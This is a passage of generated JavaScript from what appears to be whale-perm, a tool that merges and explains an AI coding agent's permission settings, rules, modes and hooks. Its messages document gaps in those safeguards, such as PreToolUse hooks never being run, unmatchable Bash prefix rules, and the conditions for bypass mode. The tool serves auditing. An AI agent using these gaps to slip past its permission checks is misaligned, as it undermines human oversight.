// Generated from src/ by scripts/bundle.js (npm run bundle). Do not edit.
"use strict";

const require_about = require("./about.aO3dBNjD.js");
const require_did_you_mean = require("./did-you-mean.BlCGxs7u.js");
const require_values = require("./values.KFsr3XQg.js");
const require_memo = require("./memo.Dc0lQyK8.js");
const require_rule_spec = require("./rule-spec.b2P3O69u.js");
const require_usage_error = require("./usage-error.DPDl2mcr.js");
const require_faithful = require("./faithful.CpRpxgyP.js");
const require_shell = require("./shell.gMNuzgWI.js");
const require_lazy = require("./lazy.DGyWU55e.js");
let node_path = require("node:path");

// src/engines/san/describe.ts
function describeSanStack(stack) {
	return {
		engine: "san",
		files: stack.files,
		settings: [
			{
				key: "permissions.defaultMode",
				value: stack.defaultModeRaw ?? stack.defaultMode.value,
				origin: `${stack.defaultMode.origin} → mode ${stack.defaultMode.value}`,
				source: stack.defaultMode.source
			},
			...stack.allowBypass.value !== void 0 ? [{
				key: "allowBypass",
				value: stack.allowBypass.value,
				origin: stack.allowBypass.origin,
				source: stack.allowBypass.source
			}] : [],
			{
				key: "session permissions",
				value: stack.sessionRules.map((r) => r.text),
				origin: stack.sessionRules.length > 0 ? "command line (--session-rule)" : "none granted",
				source: null
			}
		],
		rules: stack.rules.map((r) => {
			const notes = [];
			if (r.duplicateOf) notes.push(`duplicate of ${r.duplicateOf.file}:${r.duplicateOf.line}: the merge keeps the first`);
			if (r.bare) notes.push("bare tool name: san matches it only against a call with an empty argument");
			if (r.tool === "Bash" && /^\S+ [^:]*:\*$/.test(r.args)) notes.push(`san's own matcher never matches a multi-word prefix before ':*' (it normalises commands to name:args)`);
			return {
				summary: `${r.action.padEnd(5)} ${r.text}  (${r.origin})`,
				source: r.source,
				...notes.length > 0 ? { note: notes.join("; ") } : {}
			};
		}),
		hooks: stack.hooks.map((h) => {
			const notes = [];
			if (h.event === "PreToolUse") notes.push("san 5e33c937 never runs PreToolUse hooks for a tool call: no part in any decision");
			if (h.async) notes.push("async: never votes");
			if (h.type !== "command") notes.push(`${h.type} hook: whale-perm cannot run it, only simulate it`);
			if (h.condition !== void 0) notes.push(`if ${h.condition}: not evaluated`);
			return {
				summary: `${h.name} matcher ${JSON.stringify(h.matcher || "*")}: ${h.command || `(${h.type})`}  (${h.origin}, timeout ${h.timeoutSecs}s)`,
				source: h.source,
				...notes.length > 0 ? { note: notes.join("; ") } : {}
			};
		}),
		ignored: stack.ignored,
		warnings: stack.warnings
	};
}

// src/engines/san/load/settings-file.ts
/** The settings struct's top-level fields (both the `.gen` and the later `.san` releases). */
const TOP_FIELDS = {
	permissions: "object",
	model: "string",
	hooks: "object",
	env: "stringMap",
	enabledPlugins: "boolMap",
	disabledTools: "boolMap",
	theme: "string",
	searchProvider: "string",
	allowBypass: "boolean",
	identity: "string",
	selfLearn: "object",
	persona: "string",
	autoPilot: "object",
	lastOperationMode: "string",
	streamFirstChunkTimeout: "string",
	streamIdleTimeout: "string",
	hookUITimeout: "string",
	contextBar: "boolean"
};
const PERMISSION_FIELDS = [
	"defaultMode",
	"allow",
	"deny",
	"ask"
];
const HOOK_CMD_FIELDS = {
	type: "string",
	command: "string",
	prompt: "string",
	url: "string",
	if: "string",
	shell: "string",
	model: "string",
	async: "boolean",
	asyncRewake: "boolean",
	timeout: "integer",
	statusMessage: "string",
	once: "boolean",
	headers: "stringMap",
	allowedEnvVars: "stringArray"
};
/** Go's encoding/json: the last key that equals the field name, ignoring case. */
function field(obj, name) {
	let found;
	for (const k of Object.keys(obj)) if (k.toLowerCase() === name.toLowerCase()) found = k;
	return found;
}
const KIND_TEXT = {
	object: "an object",
	array: "an array",
	string: "a string",
	boolean: "true or false",
	integer: "an integer",
	stringMap: "an object of strings",
	boolMap: "an object of booleans",
	stringArray: "an array of strings"
};
/** JSON null decodes to the zero value without an error. */
function fits(v, kind) {
	if (v === null) return true;
	switch (kind) {
		case "object": return require_values.isTable(v);
		case "array": return Array.isArray(v);
		case "string": return typeof v === "string";
		case "boolean": return typeof v === "boolean";
		case "integer": return typeof v === "number" && Number.isInteger(v);
		case "stringMap": return require_values.isTable(v) && Object.values(v).every((x) => x === null || typeof x === "string");
		case "boolMap": return require_values.isTable(v) && Object.values(v).every((x) => x === null || typeof x === "boolean");
		case "stringArray": return Array.isArray(v) && v.every((x) => x === null || typeof x === "string");
	}
}
function readSettingsFile(doc, claudeCompat) {
	const out = {
		allow: [],
		deny: [],
		ask: [],
		hooks: /* @__PURE__ */ new Map(),
		unknown: [],
		typeErrors: []
	};
	const at = (path) => doc.locateValue(path) ?? doc.locate(path) ?? {
		file: doc.file,
		line: 1,
		column: 1
	};
	const keyAt = (path) => doc.locate(path) ?? at(path);
	const wrong = (path, kind, v) => out.typeErrors.push({
		loc: at(path),
		message: `${require_values.describePath(path)} must be ${KIND_TEXT[kind]}, not ${require_values.typeName(v)}`
	});
	const unknown = (path, v, where) => out.unknown.push({
		key: require_values.describePath(path),
		value: v,
		source: keyAt(path),
		reason: claudeCompat ? `san has no such ${where} key (Claude Code may read it; san does not)` : `san has no such ${where} key: nothing reads it`
	});
	const root = doc.value;
	for (const k of Object.keys(root)) {
		const known = Object.keys(TOP_FIELDS).find((f) => f.toLowerCase() === k.toLowerCase());
		if (!known) {
			if (!claudeCompat) unknown([k], root[k], "top-level");
			continue;
		}
		if (field(root, known) !== k) continue;
		const v = root[k];
		if (!fits(v, TOP_FIELDS[known])) wrong([k], TOP_FIELDS[known], v);
	}
	const pk = field(root, "permissions");
	const perms = pk !== void 0 ? root[pk] : void 0;
	if (pk !== void 0 && require_values.isTable(perms)) for (const k of Object.keys(perms)) {
		const known = PERMISSION_FIELDS.find((f) => f.toLowerCase() === k.toLowerCase());
		if (!known) {
			unknown([pk, k], perms[k], "permissions");
			continue;
		}
		if (field(perms, known) !== k) continue;
		const v = perms[k];
		if (known === "defaultMode") {
			if (!fits(v, "string")) wrong([pk, k], "string", v);
			else if (typeof v === "string" && v !== "") out.defaultMode = {
				value: v,
				loc: at([pk, k])
			};
			continue;
		}
		if (v === null) continue;
		if (!Array.isArray(v)) {
			wrong([pk, k], "array", v);
			continue;
		}
		v.forEach((x, i) => {
			if (x === null) return;
			if (typeof x !== "string") wrong([
				pk,
				k,
				i
			], "string", x);
			else out[known].push({
				value: x,
				loc: at([
					pk,
					k,
					i
				])
			});
		});
	}
	const bk = field(root, "allowBypass");
	if (bk !== void 0 && typeof root[bk] === "boolean") out.allowBypass = {
		value: root[bk],
		loc: at([bk])
	};
	const hk = field(root, "hooks");
	const hooks = hk !== void 0 ? root[hk] : void 0;
	if (hk !== void 0 && require_values.isTable(hooks)) for (const event of Object.keys(hooks)) {
		const groupsRaw = hooks[event];
		const groups = [];
		if (groupsRaw !== null && !Array.isArray(groupsRaw)) {
			wrong([hk, event], "array", groupsRaw);
			continue;
		}
		(groupsRaw ?? []).forEach((g, gi) => {
			if (g === null) return;
			if (!require_values.isTable(g)) return void wrong([
				hk,
				event,
				gi
			], "object", g);
			const matcherKey = field(g, "matcher");
			const matcher = matcherKey !== void 0 ? g[matcherKey] : void 0;
			if (matcher !== void 0 && !fits(matcher, "string")) wrong([
				hk,
				event,
				gi,
				matcherKey
			], "string", matcher);
			const listKey = field(g, "hooks");
			const list = listKey !== void 0 ? g[listKey] : void 0;
			const cmds = [];
			if (list !== void 0 && list !== null && !Array.isArray(list)) wrong([
				hk,
				event,
				gi,
				listKey
			], "array", list);
			if (Array.isArray(list)) list.forEach((c, ci) => {
				if (c === null) return;
				const p = [
					hk,
					event,
					gi,
					listKey,
					ci
				];
				if (!require_values.isTable(c)) return void wrong(p, "object", c);
				const get = (name) => {
					const key = field(c, name);
					if (key === void 0) return void 0;
					const v = c[key];
					if (!fits(v, HOOK_CMD_FIELDS[name])) {
						wrong([...p, key], HOOK_CMD_FIELDS[name], v);
						return;
					}
					return v ?? void 0;
				};
				for (const k of Object.keys(c)) if (!claudeCompat && !Object.keys(HOOK_CMD_FIELDS).some((f) => f.toLowerCase() === k.toLowerCase())) unknown([...p, k], c[k], "hook");
				const timeout = get("timeout");
				const condition = get("if");
				cmds.push({
					type: get("type") ?? "",
					command: get("command") ?? "",
					...timeout !== void 0 ? { timeout } : {},
					async: get("async") === true || get("asyncRewake") === true,
					...condition ? { condition } : {},
					loc: at(p)
				});
				for (const name of [
					"prompt",
					"url",
					"shell",
					"model",
					"statusMessage",
					"once",
					"headers",
					"allowedEnvVars"
				]) get(name);
			});
			groups.push({
				matcher: typeof matcher === "string" ? matcher : "",
				hooks: cmds,
				loc: at([
					hk,
					event,
					gi
				])
			});
		});
		out.hooks.set(event, {
			groups,
			loc: keyAt([hk, event])
		});
	}
	return out;
}
const PERMISSION_EVENTS = ["PreToolUse", "PermissionRequest"];

// src/engines/san/load/known-keys.ts
const TREE = {
	...Object.fromEntries(Object.keys(TOP_FIELDS).map((k) => [k, "any"])),
	permissions: Object.fromEntries(PERMISSION_FIELDS.map((k) => [k, "leaf"]))
};
function sanKeyProblems(doc, claudeCompat) {
	return require_did_you_mean.keyProblems(doc, TREE, {
		agent: "san",
		unknown: "typos",
		caseInsensitive: true,
		tolerated: (path) => claudeCompat && path.length === 0
	});
}

// src/engines/san/match/rule-text.ts
function splitRule(text) {
	const open = text.indexOf("(");
	if (open === -1) return {
		tool: text,
		args: "",
		bare: true
	};
	const rest = text.slice(open + 1);
	return {
		tool: text.slice(0, open),
		args: rest.endsWith(")") ? rest.slice(0, -1) : rest,
		bare: false
	};
}

// src/engines/san/vocab.ts
const MODES = [
	"default",
	"acceptEdits",
	"bypassPermissions",
	"plan",
	"dontAsk"
];
/**
* A mode name as a user or a settings file may spell it. The code's
* `OperationModeFromString` takes the camelCase names and a few aliases;
* whale-perm also takes `plan` (a seed mode) and `normal`.
*/
function modeOf(raw) {
	switch (raw.trim()) {
		case "default":
		case "normal": return "default";
		case "acceptEdits":
		case "accept-edits":
		case "autoAccept":
		case "auto-accept": return "acceptEdits";
		case "bypassPermissions":
		case "bypass-permissions":
		case "bypass": return "bypassPermissions";
		case "plan": return "plan";
		case "dontAsk":
		case "dont-ask": return "dontAsk";
		default: return;
	}
}
/** `safeTools` (internal/setting/permission.go, internal/tool/perm/decision.go at 5e33c937): allowed by the mode default in every mode. */
const SAFE_TOOLS = /* @__PURE__ */ new Set([
	"Read",
	"Glob",
	"Grep",
	"WebFetch",
	"WebSearch",
	"LSP",
	"TaskCreate",
	"TaskGet",
	"TaskList",
	"TaskUpdate",
	"AskUserQuestion",
	"CronList"
]);
/** `isEditTool` / `perm.IsEditTool`: acceptEdits auto-approves them; plan denies them. san has no MultiEdit tool. */
const EDIT_TOOLS = /* @__PURE__ */ new Set([
	"Edit",
	"Write",
	"NotebookEdit"
]);
/** The rest of the tools the pinned version registers (internal/tool/*). It has no LS, TodoWrite or MultiEdit. */
const OTHER_TOOLS = [
	"Bash",
	"Skill",
	"Agent",
	"SendMessage",
	"TaskOutput",
	"TaskStop",
	"CronCreate",
	"CronDelete",
	"EnterWorktree",
	"ExitWorktree"
];
const KNOWN_TOOLS = [
	"Bash",
	...[...SAFE_TOOLS],
	...[...EDIT_TOOLS],
	...OTHER_TOOLS.filter((t) => t !== "Bash")
];
const CANONICAL = new Map(KNOWN_TOOLS.map((t) => [t.toLowerCase(), t]));
CANONICAL.set("shell", "Bash");
CANONICAL.set("read_file", "Read");
CANONICAL.set("write_file", "Write");
CANONICAL.set("edit_file", "Edit");
CANONICAL.set("fetch", "WebFetch");
/** The tool name san uses for a --tool value; undefined when san has no such tool (MCP tools keep their name). */
function canonicalTool(name) {
	if (name.startsWith("mcp__")) return name;
	return CANONICAL.get(name.toLowerCase());
}
function isSafeTool(tool) {
	return SAFE_TOOLS.has(tool);
}
function isEditTool(tool) {
	return EDIT_TOOLS.has(tool);
}
/** The input key that carries a file tool's path: `file_path` for Read, Write and Edit (`BuildRule`, `BypassImmuneReason`; internal/tool/fs). */
function filePathOf(_tool, input) {
	return typeof input.file_path === "string" ? input.file_path : void 0;
}
/** The string a rule's specifier is matched against for a non-Bash tool (`BuildRule`). */
function ruleSubject(tool, input) {
	switch (tool) {
		case "Read":
		case "Write":
		case "Edit": return filePathOf(tool, input) ?? "";
		case "WebFetch": {
			const u = input.url;
			if (typeof u !== "string") return "";
			try {
				return `domain:${new URL(u).host}`;
			} catch {
				return u;
			}
		}
		case "Skill": return typeof input.skill === "string" ? input.skill : "";
		default:
			for (const k of [
				"file_path",
				"path",
				"pattern"
			]) if (typeof input[k] === "string") return input[k];
			return "";
	}
}

// src/engines/san/load/index.ts
/**
* Discovers and merges san's settings stack the way `internal/setting/loader.go`
* does: six JSON files from lowest to highest precedence, each skipped with a
* warning when it cannot be read or decoded; permission arrays merged as
* de-duplicated unions (`merger.go`), `defaultMode` taken from the highest file
* that sets it, hooks merged per event (Claude-compatible files append, san's
* own files replace, and PermissionRequest hooks never come from a
* Claude-compatible file).
*/
/** san's default hook timeout (`defaultTimeout` in internal/hook/engine.go), in seconds. */
const DEFAULT_HOOK_TIMEOUT_SECS = 600;
function settingsFiles(home, workspace) {
	return [
		{
			path: (0, node_path.join)(home, ".claude", "settings.json"),
			label: "~/.claude/settings.json",
			claudeCompat: true
		},
		{
			path: (0, node_path.join)(home, ".gen", "settings.json"),
			label: "~/.gen/settings.json",
			claudeCompat: false
		},
		{
			path: (0, node_path.join)(workspace, ".claude", "settings.json"),
			label: ".claude/settings.json",
			claudeCompat: true
		},
		{
			path: (0, node_path.join)(workspace, ".gen", "settings.json"),
			label: ".gen/settings.json",
			claudeCompat: false
		},
		{
			path: (0, node_path.join)(workspace, ".claude", "settings.local.json"),
			label: ".claude/settings.local.json",
			claudeCompat: true
		},
		{
			path: (0, node_path.join)(workspace, ".gen", "settings.local.json"),
			label: ".gen/settings.local.json",
			claudeCompat: false
		}
	];
}
function loadSanStack(opts) {
	const home = opts.home ?? opts.userHome;
	const ws = opts.workspace;
	const files = [];
	const problems = [];
	const warnings = [];
	const ignored = [];
	const reads = [];
	const seen = /* @__PURE__ */ new Set();
	settingsFiles(home, ws).forEach((f, i) => {
		const role = `${i < 2 ? "user" : i < 4 ? "project" : "local"} settings (${f.claudeCompat ? "Claude-compatible" : "san's own"})`;
		if (i >= 2 && !opts.projectConfig) {
			files.push({
				path: f.path,
				role,
				status: "ignored",
				note: "skipped: --no-project-config"
			});
			return;
		}
		if (seen.has(f.path)) {
			files.push({
				path: f.path,
				role,
				status: "ignored",
				note: "the same file as the user settings (the workspace is the home directory)"
			});
			return;
		}
		seen.add(f.path);
		const r = require_memo.readDoc(opts.reader, f.path, "json");
		if (r.status === "missing") {
			files.push({
				path: f.path,
				role,
				status: "missing"
			});
			return;
		}
		if (r.status === "error") {
			const consequence = "san logs a warning and skips the whole file, so none of its rules, hooks or defaultMode apply";
			files.push({
				path: f.path,
				role,
				status: "error",
				note: consequence
			});
			problems.push({
				check: "schema",
				fatal: false,
				syntax: false,
				severity: "error",
				message: `${r.message}; ${consequence}`,
				loc: r.loc
			});
			warnings.push(`${where(r.loc)}: ${r.message}; san skips this file, so none of its rules, hooks or defaultMode apply`);
			return;
		}
		for (const k of sanKeyProblems(r.doc, f.claudeCompat)) problems.push({
			check: "schema",
			fatal: false,
			severity: k.severity,
			message: k.message,
			loc: k.loc
		});
		const contents = readSettingsFile(r.doc, f.claudeCompat);
		ignored.push(...contents.unknown);
		if (contents.typeErrors.length > 0) {
			const consequence = "san fails to decode the file and skips all of it, so none of its rules, hooks or defaultMode apply";
			for (const e of contents.typeErrors) problems.push({
				check: "schema",
				fatal: false,
				severity: "error",
				message: `${e.message}; ${consequence}`,
				loc: e.loc
			});
			const first = contents.typeErrors[0];
			files.push({
				path: f.path,
				role,
				status: "error",
				note: consequence
			});
			warnings.push(`${where(first.loc)}: ${first.message}; san skips this file, so none of its rules, hooks or defaultMode apply`);
			return;
		}
		files.push({
			path: f.path,
			role,
			status: "read"
		});
		reads.push({
			file: f,
			contents
		});
	});
	const rules = mergeRules(reads);
	for (const r of rules) {
		if (r.duplicateOf) continue;
		const spec = require_rule_spec.parseRuleSpec(r.text);
		if ("error" in spec) problems.push({
			check: "schema",
			fatal: false,
			severity: "warning",
			message: `${spec.error}; san reads it as tool ${JSON.stringify(r.tool)} with argument ${JSON.stringify(r.args)}, which matches ${r.tool.trim() === r.tool && r.tool !== "" ? "almost nothing" : "nothing"}`,
			loc: r.source
		});
	}
	const defaultMode = resolveDefaultMode(reads, problems, warnings);
	const allowBypass = resolveAllowBypass(reads);
	if (defaultMode.setting.value === "dontAsk") {
		warnings.push(`defaultMode dontAsk (${defaultMode.setting.origin}): san 5e33c937 shows the mode but ApplyModePermissions leaves its permission gate in normal mode, so asks still prompt; whale-perm evaluates default mode`);
		defaultMode.raw ??= defaultMode.setting.value;
		defaultMode.setting = {
			...defaultMode.setting,
			value: "default",
			origin: `${defaultMode.setting.origin}, read as default (the gate never enters dontAsk from settings)`
		};
	}
	if (defaultMode.setting.value === "bypassPermissions" && allowBypass.value !== true) {
		const why = allowBypass.value === false ? `allowBypass is false (${allowBypass.origin})` : "allowBypass is not set (absent means false)";
		warnings.push(`defaultMode bypassPermissions (${defaultMode.setting.origin}) is demoted to default: ${why}; san starts in bypass mode only with allowBypass: true`);
		defaultMode.raw ??= defaultMode.setting.value;
		defaultMode.setting = {
			...defaultMode.setting,
			value: "default",
			origin: `${defaultMode.setting.origin}, demoted (${why})`
		};
	}
	const hooks = mergeHooks(reads, ignored);
	const sessionRules = (opts.sessionRules ?? []).map(sessionRule);
	return {
		home,
		workspace: ws,
		files,
		settingsFiles: reads.map((r) => r.file),
		rules,
		defaultMode: defaultMode.setting,
		...defaultMode.raw !== void 0 ? { defaultModeRaw: defaultMode.raw } : {},
		allowBypass,
		hooks,
		sessionRules,
		...opts.reader.realpath ? { resolve: (p) => opts.reader.realpath(p) } : {},
		ignored,
		problems,
		warnings
	};
}
function where(loc) {
	return loc.line > 0 ? `${loc.file}:${loc.line}:${loc.column}` : loc.file;
}
/** `mergeStringSlices`: base then overlay, the first occurrence of each entry kept. */
function mergeRules(reads) {
	const out = [];
	for (const action of [
		"deny",
		"ask",
		"allow"
	]) {
		const first = /* @__PURE__ */ new Map();
		let index = 0;
		for (const { file, contents } of reads) for (const e of contents[action]) {
			const t = splitRule(e.value);
			const dup = first.get(e.value);
			out.push({
				action,
				text: e.value,
				tool: t.tool,
				args: t.args,
				bare: t.bare,
				origin: file.label,
				source: e.loc,
				index: dup ? -1 : index++,
				...dup ? { duplicateOf: dup } : {}
			});
			if (!dup) first.set(e.value, e.loc);
		}
	}
	return out;
}
/** `coalesce`: the highest file with a non-empty defaultMode wins. */
function resolveDefaultMode(reads, problems, warnings) {
	let found;
	for (const { file, contents } of reads) if (contents.defaultMode) found = {
		file,
		...contents.defaultMode
	};
	if (!found) return { setting: {
		value: "default",
		origin: "default",
		source: null
	} };
	const mode = modeOf(found.value);
	if (mode === void 0) {
		problems.push({
			check: "schema",
			fatal: false,
			severity: "warning",
			message: `permissions.defaultMode = ${JSON.stringify(found.value)} is not a mode san knows (default, acceptEdits, bypassPermissions, plan, dontAsk); san starts in default mode`,
			loc: found.loc
		});
		warnings.push(`${where(found.loc)}: defaultMode ${JSON.stringify(found.value)} is unknown; san starts in default mode`);
		return {
			setting: {
				value: "default",
				origin: found.file.label,
				source: found.loc
			},
			raw: found.value
		};
	}
	return {
		setting: {
			value: mode,
			origin: found.file.label,
			source: found.loc
		},
		...mode !== found.value ? { raw: found.value } : {}
	};
}
function resolveAllowBypass(reads) {
	let s = {
		value: void 0,
		origin: "default",
		source: null
	};
	for (const { file, contents } of reads) if (contents.allowBypass) s = {
		value: contents.allowBypass.value,
		origin: file.label,
		source: contents.allowBypass.loc
	};
	return s;
}
/**
* Per event: Claude-compatible files append; each san-own file that names the
* event replaces what an earlier san-own file gave (an empty list disables
* the event); san-own hooks, when an event has them, replace the
* Claude-compatible ones; PermissionRequest hooks never come from a
* Claude-compatible file.
*/
function mergeHooks(reads, ignored) {
	const out = [];
	for (const event of PERMISSION_EVENTS) {
		const claude = [];
		let native;
		for (const { file, contents } of reads) {
			const e = contents.hooks.get(event);
			if (!e) continue;
			if (file.claudeCompat) for (const group of e.groups) claude.push({
				file,
				group
			});
			else {
				if (native) for (const group of native.groups) ignored.push({
					key: `hooks.${event}`,
					value: describeGroup(group),
					source: group.loc,
					reason: `replaced: ${file.label} sets its own ${event} hooks, and san's own files replace per event`,
					related: {
						loc: e.loc,
						message: "replaced by these hooks"
					}
				});
				native = {
					file,
					groups: e.groups,
					loc: e.loc
				};
			}
		}
		let effective;
		if (event === "PermissionRequest") {
			for (const c of claude) ignored.push({
				key: `hooks.${event}`,
				value: describeGroup(c.group),
				source: c.group.loc,
				reason: "san never takes PermissionRequest hooks from a Claude-compatible (.claude) file"
			});
			effective = native ? native.groups.map((group) => ({
				file: native.file,
				group
			})) : [];
		} else if (native) {
			for (const c of claude) ignored.push({
				key: `hooks.${event}`,
				value: describeGroup(c.group),
				source: c.group.loc,
				reason: `${native.file.label} sets ${event} hooks, which replace the Claude-compatible ones`,
				related: {
					loc: native.loc,
					message: "san's own hooks for this event"
				}
			});
			effective = native.groups.map((group) => ({
				file: native.file,
				group
			}));
		} else effective = claude;
		let n = 0;
		for (const { file, group } of effective) for (const cmd of group.hooks) {
			n++;
			out.push({
				name: `${event}#${n}`,
				event,
				matcher: group.matcher,
				type: cmd.type === "" ? "command" : cmd.type,
				command: cmd.command,
				timeoutSecs: cmd.timeout !== void 0 && cmd.timeout > 0 ? cmd.timeout : 600,
				async: cmd.async,
				...cmd.condition !== void 0 ? { condition: cmd.condition } : {},
				origin: file.label,
				source: cmd.loc
			});
		}
	}
	return out;
}
function describeGroup(g) {
	return `matcher ${JSON.stringify(g.matcher || "*")}: ${g.hooks.map((h) => h.command || h.type).join("; ")}`;
}
function sessionRule(text) {
	const t = splitRule(text.trim());
	return {
		text: text.trim(),
		tool: t.tool,
		args: t.args,
		wholeTool: t.bare
	};
}

// src/engines/san/hooks-run.ts
/** `matchesEvent`: '' and '*' match every tool; otherwise an anchored regular expression, or the exact text if it does not compile. */
function matcherMatches(matcher, tool) {
	if (matcher === "" || matcher === "*") return true;
	try {
		return new RegExp(`^(?:${matcher})$`, "u").test(tool);
	} catch {
		return matcher === tool;
	}
}
function matchingHooks(s, event) {
	return s.stack.hooks.filter((h) => h.event === event && matcherMatches(h.matcher, s.tool));
}
/**
* The variables san sets for a hook (`Engine.buildEnv`, internal/hook/executor.go;
* `setting.EnvPair` gives each a `GEN_` name and a `CLAUDE_` alias).
*/
function hookVars(workspace, event, tool) {
	const pairs = [
		["PROJECT_DIR", workspace],
		["SESSION_ID", event === void 0 ? void 0 : "whale-perm"],
		["EVENT_TYPE", event],
		["TOOL_NAME", tool === "" ? void 0 : tool]
	];
	const out = {};
	for (const [k, v] of pairs) {
		if (v === void 0) continue;
		out[`GEN_${k}`] = v;
		out[`CLAUDE_${k}`] = v;
	}
	return out;
}
const MODE_NAME = {
	default: "default",
	acceptEdits: "acceptEdits",
	bypassPermissions: "bypassPermissions",
	plan: "plan",
	dontAsk: "dontAsk"
};
/** Runs or simulates the matching hooks of one event, in order; the first block stops the rest (`Engine.Execute`). */
function runHooks(s, event) {
	const out = [];
	let blocked = false;
	for (const hook of matchingHooks(s, event)) {
		if (hook.async) {
			out.push({
				hook,
				how: "async",
				verdict: "none",
				detail: "async: fire-and-forget, never votes"
			});
			continue;
		}
		if (blocked) {
			out.push({
				hook,
				how: "skipped",
				verdict: "none",
				detail: "an earlier hook blocked the call"
			});
			continue;
		}
		const cached = s.hookCache.find((r) => r.hook === hook);
		const rec = cached ? withoutRewrite(cached) : obtain(s, hook);
		out.push(rec);
		if (rec.verdict === "deny") blocked = true;
	}
	return out;
}
/** A verdict reused after a rewrite: the rewrite itself is not applied twice. */
function withoutRewrite(r) {
	const { updatedInput: _dropped, ...rest } = r;
	return rest;
}
function obtain(s, hook) {
	const simulated = s.opts.hookResults[hook.name] ?? s.opts.hookResults[hook.command];
	if (simulated !== void 0) {
		if (simulated === "none") return {
			hook,
			how: "simulated",
			verdict: "none",
			detail: "simulated: no verdict"
		};
		return simulated === "error" ? {
			hook,
			how: "simulated",
			verdict: "error",
			detail: "simulated failure"
		} : {
			hook,
			how: "simulated",
			verdict: simulated
		};
	}
	if (!s.opts.runHook) return {
		hook,
		how: "not-run",
		verdict: "none"
	};
	if (hook.type !== "command") return {
		hook,
		how: "not-run",
		verdict: "none",
		detail: `a ${hook.type} hook: whale-perm runs only command hooks`
	};
	if (hook.command === "") return {
		hook,
		how: "ran",
		verdict: "none",
		detail: "empty command: san skips it"
	};
	const stdin = JSON.stringify({
		session_id: "whale-perm",
		transcript_path: "",
		cwd: s.stack.workspace,
		permission_mode: MODE_NAME[s.mode.value] ?? "default",
		hook_event_name: hook.event,
		tool_name: s.tool,
		tool_input: s.call.input,
		tool_use_id: "toolu_whale_perm"
	});
	const r = s.opts.runHook({
		name: hook.name,
		command: hook.command,
		timeoutMs: hook.timeoutSecs * 1e3,
		cwd: s.stack.workspace,
		stdin,
		env: hookVars(s.stack.workspace, hook.event, s.tool)
	});
	if (r.timedOut) return {
		hook,
		how: "ran",
		verdict: "error",
		detail: `timed out after ${hook.timeoutSecs}s`
	};
	if (r.error !== void 0 || r.exitCode === null) return {
		hook,
		how: "ran",
		verdict: "error",
		detail: `could not run: ${r.error ?? "killed"}`
	};
	if (r.exitCode === 2) return {
		hook,
		how: "ran",
		verdict: "deny",
		reason: r.stderr.trim() || "Hook blocked execution",
		detail: "exit code 2 blocks"
	};
	if (r.exitCode !== 0) {
		const line = r.stderr.trim().split("\n", 1)[0] ?? "";
		return {
			hook,
			how: "ran",
			verdict: "error",
			detail: `hook exited ${r.exitCode}${line ? `: ${line}` : ""}`
		};
	}
	return {
		hook,
		how: "ran",
		...parseOutput(hook.event, r.stdout.trim())
	};
}
function isObject(v) {
	return v !== null && typeof v === "object" && !Array.isArray(v);
}
/** `parseOutput` / `applyHookOutput` / `applySpecificOutput` / `applyPermissionDecision`. */
function parseOutput(event, stdout) {
	if (stdout === "") return {
		verdict: "none",
		detail: "no output"
	};
	let v;
	try {
		v = JSON.parse(stdout);
	} catch {
		return {
			verdict: "error",
			detail: "hook output not valid JSON"
		};
	}
	if (!isObject(v)) return {
		verdict: "error",
		detail: "hook output is not a JSON object"
	};
	let verdict = "none";
	let reason;
	let updatedInput;
	let updatedPermissions;
	if (v.continue === false) {
		verdict = "deny";
		reason = str(v.stopReason) || str(v.reason) || "continue: false";
	}
	const hso = v.hookSpecificOutput;
	if (isObject(hso)) {
		const d = str(hso.permissionDecision);
		if (d === "deny") {
			verdict = "deny";
			reason = str(hso.permissionDecisionReason) || "permissionDecision: deny";
		} else if (d === "allow" && verdict !== "deny") {
			verdict = "allow";
			reason = str(hso.permissionDecisionReason) || void 0;
		} else if (d === "ask" && verdict !== "deny") {
			verdict = "ask";
			reason = str(hso.permissionDecisionReason) || void 0;
		}
		if (isObject(hso.updatedInput)) updatedInput = hso.updatedInput;
		const prd = hso.decision;
		if (event === "PermissionRequest" && str(hso.hookEventName) === "PermissionRequest" && isObject(prd)) {
			const behavior = str(prd.behavior);
			if (behavior === "deny") {
				verdict = "deny";
				reason = str(prd.message) || "denied by hook";
			} else if (behavior === "allow" && verdict !== "deny") {
				verdict = "allow";
				if (isObject(prd.updatedInput)) updatedInput = prd.updatedInput;
				if (Array.isArray(prd.updatedPermissions)) updatedPermissions = prd.updatedPermissions.map(permissionUpdate).filter((p) => p !== void 0);
			} else {
				if (prd.interrupt === true) {
					verdict = "deny";
					reason = "interrupt";
				}
				if (isObject(prd.updatedInput)) updatedInput = prd.updatedInput;
			}
		}
	}
	return {
		verdict,
		...reason ? { reason: reason.slice(0, 2e3) } : {},
		...updatedInput ? { updatedInput } : {},
		...updatedPermissions && updatedPermissions.length > 0 ? { updatedPermissions } : {}
	};
}
function str(v) {
	return typeof v === "string" ? v : "";
}
/** `parsePermissionUpdate`: a bare string is an allow rule for the session. */
function permissionUpdate(v) {
	if (typeof v === "string") return v === "" ? void 0 : {
		type: "addRules",
		behavior: "allow",
		destination: "session",
		rules: [{
			toolName: "",
			ruleContent: v
		}],
		directories: []
	};
	if (!isObject(v)) return void 0;
	const type = str(v.type);
	if (type === "") return void 0;
	return {
		type,
		...str(v.mode) ? { mode: str(v.mode) } : {},
		...str(v.behavior) ? { behavior: str(v.behavior) } : {},
		...str(v.destination) ? { destination: str(v.destination) } : {},
		rules: Array.isArray(v.rules) ? v.rules.filter(isObject).map((r) => ({
			toolName: str(r.toolName),
			ruleContent: str(r.ruleContent)
		})) : [],
		directories: Array.isArray(v.directories) ? v.directories.filter((d) => typeof d === "string") : []
	};
}
/**
* What applying a PermissionRequest allow's `updatedPermissions` would do to
* the rest of the session (`applyPermissionUpdates` in the TUI): setMode
* (bypassPermissions refused), addRules (always as allow patterns; a
* whole-tool `Tool(**)` refused; `persistent` written to the project's
* settings), addDirectories. None of it changes the current call.
*/
function describeUpdates(hook, updates) {
	const out = [];
	for (const u of updates) if (u.type === "setMode") {
		if (u.mode === "bypassPermissions") out.push(`hook '${hook}' asked to switch to bypassPermissions; san refuses a hook that sets bypass mode`);
		else if (u.mode && [
			"acceptEdits",
			"dontAsk",
			"normal"
		].includes(u.mode)) out.push(`hook '${hook}' switches the session to mode ${u.mode} for the calls after this one`);
		else out.push(`hook '${hook}' asked for mode ${JSON.stringify(u.mode ?? "")}, which san does not apply`);
	} else if (u.type === "addRules") for (const r of u.rules) {
		const text = r.ruleContent !== "" && r.toolName !== "" ? `${r.toolName}(${r.ruleContent}:*)` : r.toolName !== "" ? `${r.toolName}(**)` : r.ruleContent;
		if (text === "") continue;
